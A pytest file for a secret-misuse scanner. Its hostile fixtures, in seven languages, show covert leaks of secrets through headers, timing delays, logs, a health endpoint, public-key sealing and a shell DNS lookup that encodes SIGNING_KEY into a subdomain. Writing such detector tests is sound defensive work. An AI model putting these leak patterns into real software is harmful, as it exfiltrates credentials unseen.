"""Secrets put to another use in Java, Kotlin, C#, PHP, Ruby, Rust and shell."""

from __future__ import annotations

import pytest

from gate.prescreen.scanners.secret_uses import SecretUses
from tests.prescreen_support import make_request


def told(head: dict[str, str], base: dict[str, str] | None = None) -> list[tuple[str, str]]:
    """Severity and path of each finding."""
    result = SecretUses().scan(make_request(head, base or {}))
    return [(f.severity.value, f.primary.path) for f in result.findings]


HOSTILE = {
    "java: a field that signs, in a header": ("src/main/java/example/Tags.java", """
class Tags {
    private final byte[] ring;
    Tags(String ring) { this.ring = ring.getBytes(UTF_8); }
    String sign(byte[] page) { mac.init(new SecretKeySpec(ring, "HmacSHA256"));
      return hex(mac.doFinal(page)); }
    String tag(int turn) {
        long made = 7;
        for (int i = 0; i < 8; i++) { made = made * 31 + (ring[(turn + i) % ring.length] & 0xff); }
        return Long.toHexString(made);
    }
}
"""),
    "java: a named secret in a log": ("src/A.java", """
class A {
    void start(Settings settings) { log.info("started with {}", settings.getSigningKey()); }
}
"""),
    "java: the environment as waiting": ("src/A.java", """
class A {
    void pause(int n) throws Exception {
        String seed = System.getenv("RELAY_SEED");
        Thread.sleep(seed.charAt(n % seed.length()) * 3);
    }
}
"""),
    "kotlin: bytes of a setting": ("src/A.kt", """
class A(private val settings: Settings) {
    fun mark(turn: Int): Long {
        var made = 1L
        for (b in settings.ring.toByteArray()) { made = made xor b.toLong() }
        return made
    }
}
"""),
    "kotlin: codes of characters in a lambda": ("src/A.kt", """
class A(private val config: AppConfig) {
    fun sizes(): List<Int> = config.salt.map { it.code % 64 + 100 }
}
"""),
    "csharp: an option by its codes": ("src/A.cs", """
public class A {
    private readonly StoreOptions _store;
    public A(StoreOptions store) { _store = store; }
    public int Delay(int turn) { return _store.Connection[turn] * 4 + (int)_store.Connection[turn]; }
    public string Id() {
        var sum = 0UL;
        foreach (var b in Encoding.UTF8.GetBytes(_store.Connection)) { sum ^= (ulong)b << 3; }
        return sum.ToString("x");
    }
}
"""),
    "csharp: a connection string sealed for somebody": ("src/A.cs", """
public class A {
    public string Run(IConfiguration configuration, RSA rsa) {
        var text = configuration.GetConnectionString("Main");
        return Convert.ToBase64String(rsa.Encrypt(Encoding.UTF8.GetBytes(text), RSAEncryptionPadding.Pkcs1));
    }
}
"""),
    "php: pieces of a setting as a number": ("src/A.php", """<?php
final class A {
    public function __construct(private Config $config) {}
    public function number(int $id): string {
        return base_convert(bin2hex(substr($this->config->get('pay'), $id % 8, 4)), 16, 36);
    }
}
"""),
    "php: the environment, character by character": ("src/a.php", """<?php
function label($n) {
    $sum = 0;
    foreach (str_split(getenv('PAY_MERCHANT')) as $one) { $sum = $sum * 7 + ord($one); }
    header('X-Trace: ' . $sum);
}
"""),
    "ruby: what logs in, as sizes": ("lib/a.rb", """
class Export
  def initialize(words)
    @words = words
  end

  def run
    Net::FTP.open("ftp.example", "feed", @words) { |ftp| ftp.list }
  end

  def sizes
    @words.bytes.map { |b| 64 + b % 64 }
  end
end
"""),
    "ruby: secret_key_base in a header": ("app/a.rb", """
class PagesController
  def show
    part = Rails.application.secret_key_base[params[:n].to_i].ord
    response.headers["X-Page"] = (part ^ 21).to_s
  end
end
"""),
    "ruby: the environment in an answer": ("app/a.rb", """
class HealthController
  def show
    render json: { ok: true, store: ENV["DATABASE_URL"] }
  end
end
"""),
    "rust: a key of the environment mixed": ("src/a.rs", """
fn tag(turn: usize) -> String {
    let word = std::env::var("RELAY_WORD").unwrap();
    let mut made: u64 = 3;
    for b in word.as_bytes().iter() { made ^= (*b as u64) << 8; }
    format!("{:x}", made)
}
"""),
    "rust: a field that signs": ("src/a.rs", """
impl Signer {
    fn sign(&self, page: &[u8]) -> Vec<u8> { let mut m = HmacSha256::new_from_slice(&self.ring).unwrap();
      m.finish() }
    fn spread(&self, n: usize) -> u64 { (self.ring[n] as u64) * 31 }
}
"""),
    "rust: a named secret in a log": ("src/a.rs", """
fn start(config: &Config) { info!("started with {}", config.api_key); }
"""),
    "shell: pieces as labels of names": ("bin/a.sh", """
part() { printf '%s' "$SIGNING_KEY" | xxd -p | cut -c1-20; }
dig "$(part).zone.example"
"""),
    "shell: a character as a pause": ("bin/a.sh", """
sleep $(( $(printf '%d' "'${DEPLOY_TOKEN:3:1}") % 9 ))
"""),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_told(name: str) -> None:
    path, text = HOSTILE[name]
    found = told({path: text})
    assert found, name
    assert {severity for severity, _ in found} <= {"medium", "high"}


ORDINARY = {
    "java: signing and logging in": ("src/A.java", """
class A {
    private final byte[] key;
    A(Settings settings) { this.key = settings.getSigningKey().getBytes(UTF_8); }
    String sign(byte[] page) { mac.init(new SecretKeySpec(key, "HmacSHA256"));
      return HexFormat.of().formatHex(mac.doFinal(page)); }
    boolean same(byte[] a, byte[] b) { int d = 0; for (int i = 0; i < a.length; i++) { d |= a[i] ^ b[i];
      } return d == 0; }
}
"""),
    "java: numbers of settings": ("src/A.java", """
class A {
    int size(Settings settings) { return settings.getPageSize() * 2 + settings.workers() % 8; }
    String name(Settings settings) {
      return settings.getTitle().substring(0, 3).toUpperCase() + settings.region().charAt(0); }
}
"""),
    "kotlin: hash codes": ("src/A.kt", """
class A(val config: Config, val name: String) {
    override fun hashCode(): Int { var h = name.hashCode(); h = 31 * h + config.hashCode(); return h }
    fun short() = config.title.take(3) + name.map { it.uppercase() }
}
"""),
    "csharp: options and a client": ("src/A.cs", """
public class A {
    private readonly StoreOptions _store;
    public A(IOptions<StoreOptions> store) { _store = store.Value; }
    public int Wait(int n) => _store.Delay * n + 5;
    public void Open() {
      client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", _store.Token); }
    public byte[] Seal(byte[] page) { return _cipher.Encrypt(page, _store.Key); }
}
"""),
    "php: settings in texts": ("src/a.php", """<?php
final class A {
    public function __construct(private Config $config) {}
    public function id(int $id): string {
      return $this->config->get('prefix') . '-' . str_pad((string) $id, 8, '0'); }
    public function first(): string { return strtoupper(substr($this->config->get('country'), 0, 2)); }
    public function hash(string $text): string { return hash_hmac('sha256', $text, getenv('APP_KEY')); }
}
"""),
    "ruby: an ordinary client": ("lib/a.rb", """
class Client
  def initialize(settings)
    @token = settings.token
    @pages = settings.pages * 2
  end

  def ask(path)
    http.get(path, "Authorization" => "Bearer #{@token}")
  end

  def colour(name)
    name.each_byte.sum % 12
  end
end
"""),
    "rust: an ordinary parser": ("src/a.rs", """
impl Lexer {
    fn next(&mut self) -> u32 { let c = self.input[self.at]; self.at += 1; (c - b'0') as u32 * 10 }
}
fn main() { let port = std::env::var("PORT").unwrap().parse::<u16>().unwrap() + 1; println!("{port}"); }
"""),
    "shell: logging in and checking": ("bin/a.sh", """
set -eu
curl -fsS -H "Authorization: Bearer $API_TOKEN" "https://x.example/$NAME" | jq -r .id
printf '%s' "$FILE" | sha256sum
echo "$VERSION" | base64 -d > out
AUTH=$(printf '%s:%s' "$USER_NAME" "$PASSWORD" | base64)
curl -H "Authorization: Basic $AUTH" https://x.example
sleep "$INTERVAL"
"""),
}  # fmt: skip


@pytest.mark.parametrize("name", ORDINARY)
def test_what_is_ordinary(name: str) -> None:
    path, text = ORDINARY[name]
    assert [one for one in told({path: text}) if one[0] != "low"] == []
